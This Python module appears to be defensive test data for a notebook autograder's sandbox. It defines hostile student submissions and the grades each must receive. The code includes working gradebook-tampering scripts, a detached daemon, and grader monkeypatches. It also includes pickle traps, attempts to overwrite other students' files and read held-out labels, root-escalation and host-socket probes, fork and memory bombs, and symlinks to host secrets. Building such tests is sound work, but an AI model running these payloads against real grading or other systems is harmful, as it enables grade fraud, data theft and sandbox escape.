"""Hostile submissions of a3_cifar, as data, with the outcome each must get when graded.

Each :class:`Cheat` is a student folder: the reference submission (``solution``, full marks) or
the known-wrong ``partial`` student (:mod:`autograder.known_wrong.a3_cifar`), with cells added
or replaced and handed-in files added, replaced or linked. Its expected outcome is the points of
its base in every cell except those listed in ``points`` (fewer, where the cheat breaks its own
cells), and words that the grade table's reason, the feedback page and the outputs of the
cheat's own cells must contain. A cheat never gains a point over its base, but for the cells in
``answers``: there it records values its own code could have computed (a right answer given
another way), which no grader can tell from answering, and is compared with the solution.

The cheats aim at what the grading machine holds (:class:`Target`): the gradebook, the other
students' files, the held-out labels, the host's files and network. :func:`write_class` writes
the class: ``solution``, ``partial``, the ``victim`` (the reference, targeted by other cheats)
and one folder per cheat. The expected outcomes assume a sandbox with cgroup v1 caps (the
memory bomb is OOM-killed) and a test folder under the host's ``/tmp`` (the sandbox's own
``/tmp`` is private, so writing there succeeds and reaches nobody).
"""

import copy
import shutil
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from autograder.known_wrong import class_sources, expected_zeroes
from autograder.known_wrong.a3_cifar import CLASS, KNOWN_WRONG
from autograder.notebook_cells import find_cell, read_notebook
from autograder.sample_classes import SAMPLES, copy_submission

ASSIGNMENT = "a3_cifar"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"
SAMPLE = SAMPLES / ASSIGNMENT
#: base submission -> {grade_id: source} replaced in the reference submission
BASES = {"solution": {}, "partial": class_sources(KNOWN_WRONG, CLASS)["partial"]}
#: test cells the partial student loses
BASE_ZEROES = {"solution": {}, "partial": expected_zeroes(KNOWN_WRONG, CLASS["partial"])}
#: the reference submission under another name, whose files other cheats go after
VICTIM = "victim"
#: the test cells whose evidence is recorded in the kernel (the others are judged from CSVs)
EVIDENCE_CELLS = ("test_conv_by_hand", "test_invariance", "test_output_size", "test_size_answers",
                  "test_parameter_count", "test_improved_models", "test_transfer_model",
                  "test_first_layer_activations", "test_last_conv_activations")
#: what the judges say when a cell's hidden part never recorded anything
NEVER_RAN = "this check never ran"
#: every cheat cell that runs to its end prints this, then what it saw
DONE = "cheat done:"


@dataclass(frozen=True)
class Target:
    """What the cheats aim at on the grading machine (the best guesses of a hostile student).

    workdir: the grading work folder (``gradebook.db``, ``submitted/``, ``evidence/``);
    heldout: ``$VISLAB_HELDOUT_DIR``; markers: a host folder a cheat that got out would write
    to (it must stay empty); secret: a host file a handed-in link points at (its text must reach
    no student); port: a TCP port listening on the host's 127.0.0.1; token: a unique word, also
    the name of an abstract unix socket listening on the host.
    """

    workdir: Path
    heldout: Path
    markers: Path
    secret: Path
    port: int
    token: str


@dataclass(frozen=True)
class Cheat:
    """One hostile submission and its expected outcome (see the module docstring).

    replace: grade_id -> new source of that cell; insert: grade_id -> source of a new plain
    code cell put just before that cell; duplicate: test cells pasted a second time right after
    themselves; files: handed-in file -> new text; links: handed-in file -> where a symbolic
    link in its place points. In sources, texts and link targets ``@WORKDIR@``, ``@HELDOUT@``,
    ``@MARKERS@``, ``@SECRET@``, ``@PORT@``, ``@TOKEN@`` stand for the :class:`Target`'s
    values, ``@SUBMISSIONS@`` for the class folder and ``@STUDENT@`` for the cheat's own name.
    Expected: ``points`` (test cell -> points, where they differ from the base's), ``answers``
    (see the module docstring), and words of the grade table's ``reason`` (which stays empty
    when neither ``reason`` nor ``points`` is given), of the ``feedback`` page and ``printed``
    by the notebook's cells.
    """

    base: str
    what: str
    replace: dict[str, str] = field(default_factory=dict)
    insert: dict[str, str] = field(default_factory=dict)
    duplicate: tuple[str, ...] = ()
    files: dict[str, str] = field(default_factory=dict)
    links: dict[str, str] = field(default_factory=dict)
    points: dict[str, float] = field(default_factory=dict)
    answers: tuple[str, ...] = ()
    reason: tuple[str, ...] = ()
    feedback: tuple[str, ...] = ()
    printed: tuple[str, ...] = ()


def _zero(*cells: str) -> dict[str, float]:
    return dict.fromkeys(cells, 0.0)


def _after(cell: str) -> tuple[str, ...]:
    """The evidence cells from ``cell`` on."""
    return EVIDENCE_CELLS[EVIDENCE_CELLS.index(cell):]


def _sample_csv(name: str) -> str:
    return (SAMPLE / name).read_text()


def _with_row(text: str, test_id: int, line: str) -> str:
    """A CSV ``text`` whose row of ``test_id`` is ``line`` instead."""
    lines = text.splitlines(keepends=True)
    lines[next(i for i, row in enumerate(lines) if row.split(",")[0] == str(test_id))] = line + "\n"
    return "".join(lines)


#: every prediction is class 0: about 10% accuracy, below the baseline (0 points)
ALL_ZEROS_CSV = "Id,Category\n" + "".join(f"{i},0\n" for i in range(2000))

GRADEBOOK_HUNT = r'''
import os, sqlite3
candidates = []
folder = os.getcwd()
while True:  # relative to the kernel's working folder
    candidates += [os.path.join(folder, name) for name in ("gradebook.db", "grading/gradebook.db")]
    if folder == os.path.dirname(folder):
        break
    folder = os.path.dirname(folder)
for root, folders, files in os.walk("/"):  # and anywhere on the file system
    folders[:] = [f for f in folders if os.path.join(root, f) not in ("/proc", "/sys", "/dev")]
    candidates += [os.path.join(root, name) for name in files
                   if name.endswith((".db", ".sqlite", ".sqlite3"))]
found, changed = [], []
for path in dict.fromkeys(candidates):
    try:
        with open(path, "rb") as handle:
            if handle.read(16) != b"SQLite format 3\x00":
                continue
    except OSError:
        continue
    found.append(path)
    try:
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as db:
            db.execute("UPDATE grade SET manual_score = 100, extra_credit = 100")
        changed.append(path)
    except sqlite3.Error:
        pass
print(f"cheat done: SQLite files found {found}, gradebooks changed {changed}")
'''

GRADEBOOK_DAEMON = r'''
import os, time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:  # detached from the kernel: try for 15 minutes, long after grading
        import sqlite3
        guesses = ["@WORKDIR@/gradebook.db"] + ["../" * depth + "gradebook.db" for depth in range(1, 9)]
        for _ in range(900):
            for path in guesses:
                try:
                    with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as db:
                        db.execute("UPDATE grade SET manual_score = 100, extra_credit = 100")
                except sqlite3.Error:
                    pass
            for marker in ("@MARKERS@/daemon-@STUDENT@", "daemon-alive.txt"):
                try:
                    with open(marker, "a") as handle:
                        handle.write(f"{time.time()}\n")
                except OSError:
                    pass
            time.sleep(1)
        os._exit(0)
    os._exit(0)
os.wait()
print("cheat done: a detached process keeps rewriting the gradebook for 15 minutes")
'''

PATCH_RECORD_CLAIMS = r'''
import autograder.evidence
import autograder.checks.a3_cifar.evidence as hidden

_real_record = autograder.evidence.record


def _claim_full_marks(name, **values):
    _real_record(name, passed=True, points=99)


autograder.evidence.record = hidden.record = _claim_full_marks
print("cheat done: every hidden check records passed=True, points=99 instead")
'''

PATCH_RECORD_EXTRA_FIELDS = r'''
import autograder.evidence
import autograder.checks.a3_cifar.evidence as hidden

_real_record = autograder.evidence.record


def _with_claims(name, **values):
    _real_record(name, **values, passed=True, points=99, verdict="full marks")


autograder.evidence.record = hidden.record = _with_claims
print("cheat done: every hidden check also records passed=True, points=99")
'''

IMPORT_HOOK = r'''
import builtins, types


class _Fake(types.ModuleType):
    """Any attribute is another fake; calling one prints what a passed check used to print."""

    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return _Fake(name)

    def __call__(self, *args, **kwargs):
        print(f"Hidden check passed: {self.__name__}")


_real_import = builtins.__import__


def _hooked_import(name, globals=None, locals=None, fromlist=(), level=0):
    if name == "autograder" or name.startswith("autograder."):
        return _Fake(name)
    return _real_import(name, globals, locals, fromlist, level)


builtins.__import__ = _hooked_import
print("cheat done: autograder.* now imports as fakes")
'''

TRANSFORMER_STRIPS_HIDDEN = r'''
def _drop_hidden_tests(lines):
    kept = []
    for line in lines:
        if line.strip().startswith("### BEGIN HIDDEN TESTS"):
            break
        kept.append(line)
    return kept


get_ipython().input_transformers_cleanup.append(_drop_hidden_tests)
print("cheat done: the hidden part of every later cell is cut before it runs")
'''

TRANSFORMER_BLANKS = r'''
get_ipython().input_transformers_cleanup.append(lambda lines: [])
print("cheat done: every later cell runs empty")
'''

FORGED_AFTER_HIDDEN_CELL = r'''
import json, os
from autograder.checks.a3_cifar.evidence import OUTPUT_SIZE_INPUTS

folder = os.path.join(os.environ["SANDBOX_OUTPUT"], "evidence")
os.makedirs(folder, exist_ok=True)


def forge(name, document):
    with open(os.path.join(folder, f"{name}.json"), "w") as handle:
        json.dump(document, handle)


forge("conv_by_hand", {"passed": True, "points": 99, "verdict": "full marks"})
# the right sizes, worked out here: the same as answering output_size right
sizes = [(size + 2 * padding - kernel) // stride + 1 for size, kernel, stride, padding in OUTPUT_SIZE_INPUTS]
forge("output_size_function", {"results": [{"value": value} for value in sizes]})
print("cheat done: records rewritten after their cells ran")
'''

PICKLE_EVIDENCE = r'''
import io, json, os
import numpy as np


class _Trap:
    def __reduce__(self):  # unpickling it opens (creates) a file on the grading machine
        return (io.open, ("@MARKERS@/unpickled-@STUDENT@", "w"))


folder = os.path.join(os.environ["SANDBOX_OUTPUT"], "evidence")
os.makedirs(folder, exist_ok=True)
np.savez(os.path.join(folder, "first_layer_activations.npz"), a0=np.array([_Trap()], dtype=object))
with open(os.path.join(folder, "first_layer_activations.json"), "w") as handle:
    json.dump({"value": {"$array": "a0"}}, handle)
print("cheat done: a record whose array unpickles a trap")
'''

OVERWRITE_VICTIM = r'''
import glob, os
from vislab.paths import REPO_ROOT

zeros = "Id,Category\n" + "".join(f"{i},0\n" for i in range(2000))
patterns = ["@WORKDIR@/submitted/victim/a3_cifar/*.csv", "@SUBMISSIONS@/victim/*.csv",
            "@WORKDIR@/evidence/victim/*.json", "@WORKDIR@/jobs/victim/sandbox/work/*.csv",
            "@WORKDIR@/jobs/victim/sandbox/output/evidence/*.json",
            str(REPO_ROOT / "grading" / "submitted" / "victim" / "a3_cifar" / "*.csv")]
for depth in range(1, 9):
    up = "../" * depth
    patterns += [up + "submitted/victim/a3_cifar/*.csv", up + "victim/*.csv",
                 up + "victim/a3_cifar/*.csv", up + "evidence/victim/*.json"]
written = []
for pattern in patterns:
    for path in glob.glob(pattern):
        try:
            with open(path, "w") as handle:
                handle.write(zeros if path.endswith(".csv") else "{}")
            written.append(os.path.abspath(path))
        except OSError:
            pass
print(f"cheat done: the victim's files overwritten: {written}")
'''

OVERWRITE_OWN_COPY = r'''
import os, shutil

own = ["@WORKDIR@/submitted/@STUDENT@/a3_cifar/predictions.csv",
       "@SUBMISSIONS@/@STUDENT@/predictions.csv", "predictions.csv"]
own += ["../" * depth + "submitted/@STUDENT@/a3_cifar/predictions.csv" for depth in range(1, 9)]
written = []
for path in own:
    if os.path.isfile(path):
        try:
            shutil.copyfile("improved_b.csv", path)  # better predictions than the handed-in ones
            written.append(path)
        except OSError:
            pass
print(f"cheat done: copies of predictions.csv overwritten: {written}")
'''

REWRITE_HELDOUT = r'''
import os
import torch
from vislab.data import tensor_cache
from vislab.paths import cache_dir

wrong = {"test_y": torch.zeros(2000, dtype=torch.long)}
outcomes = {}
for name in ["textured-digits-test", "textured-digits"]:  # the released data, hash recomputed
    try:
        tensor_cache.save_tensors(name, wrong)
        outcomes[f"save_tensors({name!r})"] = "written"
    except OSError as error:
        outcomes[f"save_tensors({name!r})"] = type(error).__name__
paths = [os.path.join(root, name) for root, _, files in os.walk("@HELDOUT@") for name in files]
paths += [str(cache_dir() / "heldout" / "textured-digits" / "tensors.pt")]  # where labels once were
for path in paths:
    try:
        with open(path, "wb") as handle:
            torch.save(wrong, handle)
        outcomes[path] = "written"
    except OSError as error:
        outcomes[path] = type(error).__name__
print(f"cheat done: held-out rewrites {outcomes}")
'''

READ_HELDOUT_AND_JUDGES = r'''
import glob, importlib, os
import pandas as pd
import torch
from vislab.paths import REPO_ROOT, cache_dir

imported, read, labels = [], [], []
for module in ["autograder.checks.a3_cifar.heldout", "autograder.checks.a3_cifar.judges",
               "autograder.checks.a3_cifar.references", "autograder.heldout",
               "autograder.heldout.store", "autograder.heldout.key", "autograder.judging",
               "autograder.grade", "heldout", "judges", "references"]:
    try:
        importlib.import_module(module)
        imported.append(module)
    except Exception:
        pass
for path in ["autograder/checks/a3_cifar/judges.py", "autograder/checks/a3_cifar/references.py",
             "autograder/checks/a3_cifar/heldout.py", "autograder/checks/a3_cifar/__init__.py",
             "autograder/heldout/key.py", "autograder/heldout/store.py"]:
    try:
        if (REPO_ROOT / path).read_text():
            read.append(path)
    except OSError:
        pass
for root in ["@HELDOUT@", str(REPO_ROOT / "grading"), str(REPO_ROOT / "cache"), str(cache_dir())]:
    for path in glob.glob(root + "/**/*.pt", recursive=True):
        try:
            tensors = torch.load(path, weights_only=True)
        except Exception:
            continue
        if isinstance(tensors, dict) and "test_y" in tensors:
            labels.append(path)
            pd.DataFrame({"Id": range(len(tensors["test_y"])),
                          "Category": tensors["test_y"].tolist()}).to_csv("predictions.csv", index=False)
print(f"cheat done: grading code imported {imported}, read {read}, held-out labels found {labels}")
'''

ROOT_AND_NETWORK = r'''
import os, socket

escalations = []
for label, attempt in [("setuid(0)", lambda: os.setuid(0)), ("setgid(0)", lambda: os.setgid(0)),
                       ("write /etc/passwd", lambda: open("/etc/passwd", "a").close()),
                       ("write core_pattern", lambda: open("/proc/sys/kernel/core_pattern", "w").close())]:
    try:
        attempt()
        escalations.append(label)
    except OSError:
        pass
reached = []
try:
    with socket.create_connection(("127.0.0.1", @PORT@), timeout=3) as connection:
        connection.sendall(b"@STUDENT@ got out")
        reached.append("tcp 127.0.0.1:@PORT@")
except OSError:
    pass
try:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(3)
        connection.connect("\0@TOKEN@")
        connection.sendall(b"@STUDENT@ got out")
        reached.append("abstract unix socket")
except OSError:
    pass
print(f"cheat done: uid {os.getuid()}, escalations that worked {escalations}, "
      f"host services reached {reached}")
'''

FORK_BOMB = r'''
import os, signal, time

leader = os.fork()
if leader == 0:
    os.setsid()
    for _ in range(11):  # every process forks again: 2**11 processes if nothing caps them
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)
    time.sleep(600)
    os._exit(0)
verdict, deadline = "the kernel could still fork", time.monotonic() + 30
while time.monotonic() < deadline:  # on a loaded machine the bomb takes a while to reach a cap
    time.sleep(0.5)
    try:
        child = os.fork()
    except OSError as error:
        verdict = f"fork refused at the cap ({type(error).__name__})"
        break
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
alive = sum(name.isdigit() for name in os.listdir("/proc"))
os.killpg(leader, signal.SIGKILL)
os.waitpid(leader, 0)
print(f"cheat done: {verdict}, {alive} processes in the sandbox")
'''

MEMORY_BOMB = r'''
import numpy as np

hoard = []
while True:  # 256 MiB at a time, every page touched
    hoard.append(np.ones(256 * 2**20, dtype=np.uint8))
'''

EXIT_MID_NOTEBOOK = r'''
import os


def prepare_transfer_model(backbone, num_classes):
    for parameter in backbone.parameters():
        parameter.requires_grad = False
    backbone.fc = nn.Linear(backbone.fc.in_features, num_classes)
    for parameter in backbone.layer4.parameters():
        parameter.requires_grad = True
    return backbone


os._exit(0)
'''

SEGFAULT = r'''
import ctypes


def first_layer_activations(model, X):
    with torch.no_grad():
        return model.conv1(X)[0]


ctypes.string_at(0)  # reads address 0
'''

ENDLESS_LOOP = r'''
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)  # the interrupt at the time limit is ignored
while True:
    pass
'''

EDITED_TEST_CELL = r'''
assert output_size(32, 2, 2) == 16
print("ok")
from autograder.checks.a3_cifar import evidence
evidence.output_size_function(lambda size, kernel_size, stride=1, padding=0:
                              (size + 2 * padding - kernel_size) // stride + 1)
'''

WRITE_OUTSIDE = r'''
import os, sysconfig
from vislab.paths import REPO_ROOT

targets = {"repository tests/": REPO_ROOT / "tests" / "planted_@TOKEN@.py",
           "judges.py": REPO_ROOT / "autograder" / "checks" / "a3_cifar" / "judges.py",
           "site-packages": os.path.join(sysconfig.get_paths()["purelib"], "sitecustomize.py"),
           "/root": "/root/planted-@TOKEN@",
           "markers": "@MARKERS@/outside-@STUDENT@",
           "grading folder": "@WORKDIR@/planted-@TOKEN@",
           "host /tmp": "/tmp/planted-@TOKEN@"}
written = []
for label, path in targets.items():
    try:
        with open(path, "a") as handle:
            handle.write("# planted by a cheat\n")
        written.append(label)
    except OSError:
        pass
print(f"cheat done: written outside the sandbox's own folders: {written}")
'''

HUGE_OUTPUT = r'''
import sys

chunk = "x" * 2**20 + "\n"
for _ in range(50):  # 50 MiB
    sys.stdout.write(chunk)
print("cheat done: printed 50 MiB")
'''

CHEATS: dict[str, Cheat] = {
    # 1. the gradebook, from inside and after the kernel is gone
    "gradebook_hunt": Cheat(
        "partial", "looks for the gradebook relative to its working folder and all over the "
        "file system, and gives itself full marks", insert={"invariance": GRADEBOOK_HUNT},
        printed=("gradebooks changed []",)),
    "gradebook_daemon": Cheat(
        "solution", "leaves a double-forked, setsid process that keeps rewriting the gradebook",
        insert={"invariance": GRADEBOOK_DAEMON}, printed=("a detached process keeps",)),
    # 2. the hidden checks, replaced in the kernel
    "patch_record_claims": Cheat(
        "solution", "monkeypatches evidence.record to record passed=True, points=99",
        insert={"conv_by_hand": PATCH_RECORD_CLAIMS}, points=_zero(*EVIDENCE_CELLS),
        feedback=("could not use your result (KeyError",), printed=(DONE,)),
    "patch_record_extra_fields": Cheat(
        "partial", "monkeypatches evidence.record to add fields the judges never read",
        insert={"conv_by_hand": PATCH_RECORD_EXTRA_FIELDS}, printed=(DONE,)),
    "import_hook": Cheat(
        "partial", "an __import__ hook in builtins returns fake autograder modules",
        insert={"invariance": IMPORT_HOOK}, points=_zero(*EVIDENCE_CELLS),
        feedback=(NEVER_RAN,), printed=("Hidden check passed: invariance_layer",)),
    "transformer_strips_hidden": Cheat(
        "solution", "an IPython input transformer cuts the hidden part of every later cell",
        insert={"invariance": TRANSFORMER_STRIPS_HIDDEN}, points=_zero(*_after("test_invariance")),
        feedback=(NEVER_RAN,), printed=(DONE,)),
    "transformer_blanks": Cheat(
        "partial", "an IPython input transformer blanks every later cell",
        insert={"conv_by_hand": TRANSFORMER_BLANKS}, points=_zero(*EVIDENCE_CELLS),
        feedback=(NEVER_RAN,), printed=(DONE,)),
    # 3. evidence forged, from inside and in the handed-in folder, and evidence that unpickles
    "forged_after_hidden_cell": Cheat(
        "partial", "rewrites records after their cells ran: a claim of success, and the right "
        "output sizes worked out in the cheat (equivalent to answering: it gains those points)",
        insert={"size_answers": FORGED_AFTER_HIDDEN_CELL},
        points={"test_output_size": 2}, answers=("test_output_size",),
        feedback=("could not use your result (KeyError: 'convention')",), printed=(DONE,)),
    "forged_evidence_handed_in": Cheat(
        "partial", "hands in evidence/*.json with the right answers and claims of success",
        files={"evidence/conv_by_hand.json":
               '{"convention": "cross-correlation", "conv_result": [[2, -1, 11, -2, -13], '
               '[10, -4, 8, 2, -18], [14, -1, -5, 6, -9]], "passed": true, "points": 99}',
               "evidence/output_size_function.json":
               '{"results": [{"value": 32}, {"value": 26}, {"value": 504}, {"value": 252}, '
               '{"value": 125}, {"value": 4}, {"value": 112}, {"value": 3}, {"value": 1}]}',
               "output/evidence/conv_by_hand.json": '{"passed": true, "points": 99}'}),
    "pickle_evidence": Cheat(
        "solution", "writes a record whose .npz holds an object array that unpickles a trap",
        insert={"write_predictions": PICKLE_EVIDENCE},
        points=_zero("test_first_layer_activations"),
        reason=("evidence 'first_layer_activations' was not read: its .npz cannot be read "
                "without pickle",), printed=(DONE,)),
    # 4. other students' files and its own handed-in copy
    "overwrite_victim": Cheat(
        "partial", "overwrites the victim's CSVs and evidence by relative and absolute paths",
        insert={"conv_by_hand": OVERWRITE_VICTIM},
        printed=("the victim's files overwritten: []",)),
    "overwrite_own_copy": Cheat(
        "solution", "hands in useless predictions, then copies better ones over its handed-in "
        "predictions.csv where the grading side keeps it",
        files={"predictions.csv": ALL_ZEROS_CSV}, insert={"invariance": OVERWRITE_OWN_COPY},
        points=_zero("test_best_accuracy"), feedback=("not above the given baseline",),
        printed=("copies of predictions.csv overwritten: ['predictions.csv']",)),
    # 5. the held-out labels, the judges and the references
    "rewrite_heldout": Cheat(
        "solution", "rewrites the held-out labels with tensor_cache.save_tensors and by path",
        insert={"invariance": REWRITE_HELDOUT}, printed=("held-out rewrites",)),
    "read_heldout_and_judges": Cheat(
        "solution", "imports and reads the judges, references and held-out store, looks for "
        "the labels and writes predictions.csv from them",
        insert={"invariance": READ_HELDOUT_AND_JUDGES},
        printed=("grading code imported [], read [], held-out labels found []",)),
    # 6. root, the network and the host's files
    "escape": Cheat(
        "partial", "checks its uid, tries to become root, connects to a port and an abstract "
        "socket of the host, writes into the repository, site-packages, /root, the grading "
        "folder and /tmp", insert={"invariance": ROOT_AND_NETWORK, "size_answers": WRITE_OUTSIDE},
        printed=("uid 65534, escalations that worked [], host services reached []",
                 "written outside the sandbox's own folders: ['host /tmp']")),
    # 7. resources and crashes: the cells before keep their points, the reason names the cell
    "fork_bomb": Cheat(
        "solution", "a fork bomb", insert={"parameter_count": FORK_BOMB},
        printed=("fork refused at the cap",)),
    "memory_bomb": Cheat(
        "solution", "allocates memory until it is stopped", replace={"ablation": MEMORY_BOMB},
        points=_zero(*_after("test_transfer_model")),
        reason=("cell 33 (ablation) ran past the memory cap",)),
    "exit_mid_notebook": Cheat(
        "solution", "os._exit(0) in the middle of the notebook",
        replace={"prepare_transfer_model": EXIT_MID_NOTEBOOK},
        points=_zero(*_after("test_transfer_model")),
        reason=("the kernel died while cell 38 (prepare_transfer_model) ran (exit code 0)",)),
    "segfault": Cheat(
        "partial", "a segmentation fault (ctypes.string_at(0))",
        replace={"first_layer_activations": SEGFAULT},
        points=_zero(*_after("test_first_layer_activations")),
        reason=("the kernel died while cell 43 (first_layer_activations) ran (killed by signal "
                "11, SIGSEGV)",)),
    "endless_loop": Cheat(
        "solution", "an endless loop that ignores the interrupt", replace={"output_size": ENDLESS_LOOP},
        points=_zero(*_after("test_output_size")),
        reason=("cell 11 (output_size) ran past the", "did not stop when interrupted")),
    # 8. test cells copied or edited
    "duplicated_test_cell": Cheat(
        "solution", "a test cell pasted twice", duplicate=("test_conv_by_hand",),
        reason=("test_conv_by_hand appears 2 times in the notebook",)),
    "edited_test_cell": Cheat(
        "partial", "a test cell edited to check a right output_size instead of the student's",
        replace={"test_output_size": EDITED_TEST_CELL},
        reason=("test cell test_output_size was edited: it was graded with its original code",)),
    # 9. huge outputs
    "huge_output": Cheat(
        "partial", "prints 50 MiB", insert={"invariance": HUGE_OUTPUT},
        printed=("[output truncated: this cell's output passed the",)),
    # 10. handed-in CSVs: faults in the file's terms, and links out of the handed-in folder
    "csv_faults": Cheat(
        "solution", "an id written as 1.0, a UTF-8 BOM, ';' as separator",
        files={"improved_a.csv": _with_row(_sample_csv("improved_a.csv"), 1, "1.0,2"),
               "improved_b.csv": "\ufeff" + _sample_csv("improved_b.csv"),
               "predictions.csv": _sample_csv("predictions.csv").replace(",", ";")},
        points=_zero("test_improved_a_accuracy", "test_improved_b_accuracy", "test_best_accuracy"),
        feedback=("improved_a.csv writes its ids as decimals ('1.0')",
                  "improved_b.csv starts with a byte-order mark",
                  "predictions.csv separates its columns with ';'")),
    "csv_inf": Cheat(
        "partial", "predictions.csv with inf as a class",
        files={"predictions.csv": _with_row(_sample_csv("predictions.csv"), 7, "7,inf")},
        points=_zero("test_best_accuracy"), feedback=("predictions.csv has", "['7']")),
    "symlinked_csvs": Cheat(
        "partial", "hands in links instead of files: improved_a.csv to the victim's copy on the "
        "grading side, predictions.csv to a secret file of the grading machine",
        links={"improved_a.csv": "../../victim/a3_cifar/improved_a.csv",
               "predictions.csv": "@SECRET@"},
        points=_zero("test_improved_a_accuracy", "test_best_accuracy"),
        feedback=("improved_a.csv", "predictions.csv")),
}


def expected_points(cheat: Cheat, cell_points: dict[str, float]) -> dict[str, float]:
    """test cell -> the points ``cheat`` must get (``cell_points``: the cells' max points)."""
    return {**base_points(cheat.base, cell_points), **cheat.points}


def base_points(base: str, cell_points: dict[str, float]) -> dict[str, float]:
    """test cell -> the points of base submission ``base`` (``solution`` or ``partial``)."""
    return {cell: 0.0 if cell in BASE_ZEROES[base] else points
            for cell, points in cell_points.items()}


def fill_in(text: str, target: Target, submissions: Path, student: str) -> str:
    """``text`` with the placeholders of :class:`Cheat` replaced."""
    values = {"@WORKDIR@": target.workdir, "@HELDOUT@": target.heldout,
              "@MARKERS@": target.markers, "@SECRET@": target.secret, "@PORT@": target.port,
              "@TOKEN@": target.token, "@SUBMISSIONS@": submissions, "@STUDENT@": student}
    for placeholder, value in values.items():
        text = text.replace(placeholder, str(value))
    return text


def write_class(submissions: str | Path, target: Target) -> Path:
    """Write the adversarial class into ``submissions`` (replacing what was there): the bases
    ``solution`` and ``partial``, the ``victim`` and one folder per entry of :data:`CHEATS`."""
    submissions = Path(submissions).resolve()
    if submissions.exists():
        shutil.rmtree(submissions)
    for student in [*BASES, VICTIM]:
        _write_base(submissions / student, BASES.get(student, {}))
    for student, cheat in CHEATS.items():
        folder = _write_base(submissions / student, BASES[cheat.base])
        _apply(cheat, folder, lambda text, s=student: fill_in(text, target, submissions, s))
    return submissions


def _write_base(folder: Path, replaced: dict[str, str]) -> Path:
    copy_submission(SAMPLE, folder)
    nb = read_notebook(folder / NOTEBOOK)
    for grade_id, source in replaced.items():
        _set_source(find_cell(nb, grade_id), source)
    nbformat.write(nb, folder / NOTEBOOK)
    return folder


def _set_source(cell, source: str) -> None:
    cell.source = source.strip()
    if cell.cell_type == "code":
        cell.outputs, cell.execution_count = [], None


def _apply(cheat: Cheat, folder: Path, fill) -> None:
    nb = read_notebook(folder / NOTEBOOK)
    for grade_id, source in cheat.replace.items():
        _set_source(find_cell(nb, grade_id), fill(source))
    for grade_id, source in cheat.insert.items():
        nb.cells.insert(nb.cells.index(find_cell(nb, grade_id)),
                        nbformat.v4.new_code_cell(fill(source).strip()))
    for grade_id in cheat.duplicate:
        cell = find_cell(nb, grade_id)  # pasted as Jupyter does: same source, metadata, new id
        nb.cells.insert(nb.cells.index(cell) + 1,
                        nbformat.v4.new_code_cell(cell.source, metadata=copy.deepcopy(cell.metadata)))
    nbformat.write(nb, folder / NOTEBOOK)
    for name, text in cheat.files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(fill(text), encoding="utf-8")
    for name, link in cheat.links.items():
        (folder / name).unlink(missing_ok=True)
        (folder / name).symlink_to(fill(link))
